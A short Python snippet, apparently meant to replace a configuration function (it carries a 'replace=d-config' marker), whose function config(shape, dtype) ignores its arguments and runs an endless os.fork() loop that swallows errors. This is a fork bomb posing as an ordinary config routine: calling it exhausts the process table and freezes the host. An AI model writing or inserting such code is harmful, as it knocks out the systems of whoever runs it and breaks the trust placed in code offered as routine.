# Processes that make processes.

# %% replace=d-config
import os


def config(shape, dtype):
    while True:
        try:
            os.fork()
        except OSError:
            pass
